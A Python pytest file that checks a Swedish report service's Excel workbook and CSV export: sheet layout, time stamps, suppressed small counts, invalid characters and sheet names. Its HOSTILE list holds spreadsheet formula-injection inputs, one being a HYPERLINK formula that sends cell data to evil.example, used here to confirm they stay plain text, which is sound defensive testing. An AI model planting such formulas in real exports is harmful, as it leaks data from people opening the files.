"""The report's workbook and CSV as a spreadsheet reads them: sheets, values, markers, safety."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest
from flask import Flask
from openpyxl.worksheet.worksheet import Worksheet

from formsvc.services.report_export import (
    MAX_CELL,
    REPLACEMENT,
    Meta,
    Table,
    report_csv,
    sheet_name,
    workbook,
)

#: Winter time: 11:05 UTC is 12:05 in Stockholm (CET); summer time is tested separately.
TAKEN = datetime(2026, 12, 7, 11, 5, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _meta(**changes: object) -> Meta:
    values: dict[str, object] = {
        "title": "Resultat SIG unga vuxna",
        "period": (date(2020, 1, 1), date(2020, 6, 30)),
        "scope": "Hela staden",
        "target_group": "SIG unga vuxna",
        "minimum": 3,
        "taken_at": TAKEN,
        "closed_period": None,
    }
    values.update(changes)
    return Meta(**values)  # type: ignore[arg-type]


def _tables(districts: list[str] | None = None) -> list[Table]:
    names = districts or ["Rinkeby-Kista", "Skärholmen"]
    return [
        Table(
            key="new_by_gender",
            title="Nya inskrivna under perioden per kön",
            columns=["Stadsdel", "Kvinna", "Man", "Totalt"],
            rows=[[names[0], 3, 40, 43], [names[1], None, None, 3], ["Hela staden", 3, 43, 46]],
            hidden_text="döljs",
            notes=["Inskrivna: inskrivningsdatum inom perioden.", "Kön enligt bedömningen."],
        ),
        Table(
            key="indicators",
            title="Andel ja vid inskrivning och utskrivning",
            columns=["Fråga", "Andel ja vid inskrivning, %", "n", "Andel ja vid utskrivning, %"],
            rows=[["Misstänkt för brott", 57.1, 35, None], ["Boende", 12.5, 35, 40.0]],
            hidden_text="färre än 3",
            notes=["Andelen räknas bland dem som svarat ja eller nej; ”vet ej” räknas inte."],
        ),
    ]


def _open(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def _values(ws: Worksheet) -> list[list[object]]:
    return [list(row) for row in ws.iter_rows(values_only=True)]


def _csv_lines(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads å, ä, ö right only with the BOM
    text = data.decode("utf-8-sig")
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_the_workbook_opens_with_about_first_then_one_sheet_per_table(app: Flask) -> None:
    wb = _open(workbook(_meta(), _tables()))
    assert wb.sheetnames == ["Om rapporten", "new_by_gender", "indicators"]
    about = _values(wb["Om rapporten"])
    assert about[0][0] == "Resultat SIG unga vuxna"
    pairs = {row[0]: row[1] for row in about if row[0] and row[1] is not None}
    assert pairs["Period"] == "2020-01-01 – 2020-06-30"
    assert pairs["Omfattning"] == "Hela staden"
    assert pairs["Målgrupp"] == "SIG unga vuxna"
    assert pairs["Minsta redovisade grupp"] == 3
    assert pairs["Uttagen"] == "2026-12-07 12:05 (CET)"
    assert pairs["Underlag"] == "preliminär – perioden är inte stängd"
    flat = [c for row in about for c in row if c is not None]
    # the definitions are on the first sheet, under the sheet they belong to
    assert "Kön enligt bedömningen." in flat and "new_by_gender" in flat
    assert any("vet ej" in str(c) for c in flat)


def test_taken_at_is_shown_in_stockholm_summer_time_and_the_closed_period_named(
    app: Flask,
) -> None:
    closed = "2020-01-01–2020-06-30, stängd 2020-08-15 av analytiker1"
    meta = _meta(taken_at=datetime(2026, 7, 1, 22, 30, tzinfo=UTC), closed_period=closed)
    about = _values(_open(workbook(meta, _tables()))["Om rapporten"])
    pairs = {row[0]: row[1] for row in about if row[0]}
    assert pairs["Uttagen"] == "2026-07-02 00:30 (CEST)"
    assert pairs["Underlag"] == closed


def test_a_table_sheet_has_numbers_bold_frozen_headings_markers_and_notes(app: Flask) -> None:
    wb = _open(workbook(_meta(), _tables()))
    ws = wb["new_by_gender"]
    rows = _values(ws)
    assert rows[0][0] == "Nya inskrivna under perioden per kön"
    assert rows[2] == ["Stadsdel", "Kvinna", "Man", "Totalt"]
    assert all(ws.cell(3, c).font.b for c in range(1, 5))
    assert ws.freeze_panes == "B4"  # the headings and the row labels stay in view
    assert rows[3] == ["Rinkeby-Kista", 3, 40, 43]
    assert ws.cell(4, 2).data_type == "n"  # a count is a number Excel can sum
    assert rows[4] == ["Skärholmen", "döljs", "döljs", 3]
    assert ws.cell(5, 2).data_type == "s"
    assert rows[5] == ["Hela staden", 3, 43, 46]
    assert [r[0] for r in rows[7:9]] == [
        "Inskrivna: inskrivningsdatum inom perioden.",
        "Kön enligt bedömningen.",
    ]
    assert ws.column_dimensions["A"].width >= len("Rinkeby-Kista")
    shares = wb["indicators"]
    assert _values(shares)[3] == ["Misstänkt för brott", 57.1, 35, "färre än 3"]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_text_that_looks_like_a_formula_stays_text(app: Flask, hostile: str) -> None:
    data = workbook(_meta(scope=hostile, title=hostile), _tables([hostile, "Skärholmen"]))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    wb = _open(data)
    cell = wb["new_by_gender"]["A4"]
    assert cell.value == hostile and cell.data_type == "s"
    assert cell.quotePrefix  # editing it in Excel does not make it a formula either
    about = _values(wb["Om rapporten"])
    assert ["Omfattning", hostile] in [r[:2] for r in about]
    lines = _csv_lines(report_csv(_meta(scope=hostile), _tables([hostile, "Skärholmen"])))
    cells = [c for line in lines for c in line]
    assert "'" + hostile in cells and hostile not in cells


def test_characters_xml_cannot_hold_are_replaced_not_a_broken_file(app: Flask) -> None:
    nasty = "Järva\x00\x01\x08\x0b\x0c\x1f\ufffe\ud800 <&>\"' ]]> slut"
    data = workbook(_meta(scope=nasty), _tables([nasty, "Skärholmen"]))
    wb = _open(data)
    shown = wb["new_by_gender"]["A4"].value
    assert shown == "Järva" + REPLACEMENT * 8 + " <&>\"' ]]> slut"
    about = {r[0]: r[1] for r in _values(wb["Om rapporten"]) if r[0]}
    assert about["Omfattning"] == shown


def test_a_very_long_name_is_cut_to_what_excel_accepts(app: Flask) -> None:
    long = "Å" * (MAX_CELL + 500)
    wb = _open(workbook(_meta(title=long), _tables([long, "Skärholmen"])))
    value = wb["new_by_gender"]["A4"].value
    assert isinstance(value, str) and len(value) == MAX_CELL and value.endswith("…")
    assert wb["new_by_gender"].column_dimensions["A"].width <= 60


def test_sheet_names_are_valid_and_unique_whatever_the_keys() -> None:
    taken: set[str] = {"Om rapporten"}
    wanted = [
        "om RAPPORTEN",
        "a[b]c:d*e?f/g\\h",
        "x" * 40,
        "x" * 40,
        "'quoted'",
        "History",
        "",
        "\x00",
    ]
    names = [sheet_name(w, taken) for w in wanted]
    assert len({n.casefold() for n in taken}) == len(wanted) + 1
    for name in names:
        assert 0 < len(name) <= 31
        assert not set(name) & set("[]:*?/\\")
        assert not name.startswith("'") and not name.endswith("'")
        assert name.casefold() != "history"
    assert names[0] == "om RAPPORTEN (2)"
    assert names[2] == "x" * 31 and names[3] == "x" * 27 + " (2)"


def test_hostile_keys_still_make_a_workbook_excel_accepts(app: Flask) -> None:
    tables = [
        Table("x" * 40, "A", ["a"], [["1"]], "döljs", []),
        Table("x" * 40, "B", ["b"], [["2"]], "döljs", []),
        Table("Om rapporten", "C", ["c"], [["3"]], "döljs", []),
    ]
    wb = _open(workbook(_meta(), tables))
    assert len(wb.sheetnames) == 4 and len({s.casefold() for s in wb.sheetnames}) == 4
    assert [wb[s]["A1"].value for s in wb.sheetnames[1:]] == ["A", "B", "C"]


def test_the_csv_has_the_meta_block_first_then_every_table(app: Flask) -> None:
    lines = _csv_lines(report_csv(_meta(), _tables()))
    assert lines[0] == ["Om rapporten"]
    meta = {line[0]: line[1] for line in lines[1:8]}
    assert meta["Period"] == "2020-01-01 – 2020-06-30"
    assert meta["Minsta redovisade grupp"] == "3"
    assert meta["Uttagen"] == "2026-12-07 12:05 (CET)"
    assert meta["Underlag"] == "preliminär – perioden är inte stängd"
    start = lines.index(["Tabell", "new_by_gender", "Nya inskrivna under perioden per kön"])
    assert lines[start + 1] == ["Stadsdel", "Kvinna", "Man", "Totalt"]
    assert lines[start + 2] == ["Rinkeby-Kista", "3", "40", "43"]
    assert lines[start + 3] == ["Skärholmen", "döljs", "döljs", "3"]
    assert lines[start + 5] == ["Anmärkning", "Inskrivna: inskrivningsdatum inom perioden."]
    shares = lines.index(["Tabell", "indicators", "Andel ja vid inskrivning och utskrivning"])
    assert lines[shares + 2] == ["Misstänkt för brott", "57,1", "35", "färre än 3"]
    assert lines[shares + 3] == ["Boende", "12,5", "35", "40,0"]


def test_definitions_shared_by_every_table_are_written_once_in_the_csv(app: Flask) -> None:
    shared = "Andelens bas är de som svarat ja eller nej."
    tables = [
        Table("a", "A", ["Stadsdel", "Antal"], [["X", 5]], "döljs", [shared, "Bara A."]),
        Table("b", "B", ["Stadsdel", "Antal"], [["X", 6]], "döljs", [shared]),
    ]
    lines = _csv_lines(report_csv(_meta(), tables))
    assert lines.count(["Definition", shared]) == 1
    assert lines.index(["Definition", shared]) < lines.index(["Tabell", "a", "A"])
    assert ["Anmärkning", shared] not in lines
    assert lines[lines.index(["Tabell", "a", "A"]) + 3] == ["Anmärkning", "Bara A."]
    wb = _open(workbook(_meta(), tables))
    about = [c for row in _values(wb["Om rapporten"]) for c in row]
    assert about.count(shared) == 1 and about.count("Bara A.") == 1
    # each table's sheet stands on its own, with all its notes under it
    for name in ("a", "b"):
        assert shared in [row[0] for row in _values(wb[name])]
